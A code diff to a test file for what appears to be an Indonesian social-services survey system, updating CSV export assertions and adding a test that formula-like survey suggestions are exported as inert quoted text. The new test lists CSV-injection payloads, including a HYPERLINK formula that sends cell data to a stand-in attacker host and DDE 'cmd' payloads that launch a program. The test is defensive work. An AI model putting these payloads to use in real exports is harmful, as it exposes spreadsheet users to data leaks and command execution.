@@ -453,12 +453,12 @@ describe('who reads the answers', () => {
       .split('\r\n');
     expect(lines[0]).toMatch(
       new RegExp(
-        '^Layanan,Responden,Lewat nomor permohonan,Lewat nomor usulan desa,Lewat nomor pengaduan,Di loket \\(kode QR\\),' +
-          'Pengguna layanan,Responden minimal,Keadaan sampel,NRR U1 Persyaratan,',
+        '^"Layanan","Responden","Lewat nomor permohonan","Lewat nomor usulan desa","Lewat nomor pengaduan","Di loket \\(kode QR\\)",' +
+          '"Pengguna layanan","Responden minimal","Keadaan sampel","NRR U1 Persyaratan",',
       ),
     );
-    expect(lines.find((line) => line.startsWith('Pengusulan PBI APBD'))).toContain(',99.44,A,Sangat baik');
-    expect(lines).toContain('Layanan Kedaruratan bagi PPKS,0812');
+    expect(lines.find((line) => line.startsWith('"Pengusulan PBI APBD"'))).toContain(',"99.44","A","Sangat baik"');
+    expect(lines).toContain('"Layanan Kedaruratan bagi PPKS","0812"');
 
     // Another office's head sees only theirs.
     const banjarnegara = await createStaff(server, 'dinsos-pppa-banjarnegara', 'kepala_bidang');
@@ -477,5 +477,30 @@ describe('who reads the answers', () => {
       [accounts.kepala.id, 'csv'],
       [banjarnegara.id, 'json'],
     ]);
+  });
+});
+
+describe("the kepala bidang's spreadsheet", () => {
+  it('holds suggestions written as formulas as text, so opening the file runs nothing', async () => {
+    const formulas = [
+      '=HYPERLINK("http://penyerang.test/?"&A2;"Klik di sini")',
+      "+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+    ];
+    for (const [index, formula] of formulas.entries()) {
+      const request = await finishedRequest('pengusulan-dtks', `0813-4000-500${index}`);
+      expect((await rate(request['number'], `500${index}`, { ...ALL_FOURS, suggestion: formula })).status).toBe(200);
+    }
+    const period = (await publicReport()).report.period.id;
+    const csv = await (
+      await fetch(`${server.url}/api/petugas/survei?periode=${period}&format=csv`, {
+        headers: { Authorization: accounts.kepala.pb.authStore.token },
+      })
+    ).text();
+    for (const formula of formulas)
+      expect(csv).toContain(`"Pengusulan Data Terpadu Kesejahteraan Sosial","'${formula.replace(/"/g, '""')}"`);
+    // No cell of the file (each quoted) starts with what a spreadsheet program would run.
+    expect(csv.replace(/^\ufeff/, '')).not.toMatch(/(^|,|\n)"[=+\-@\t\r]/);
   });
 });
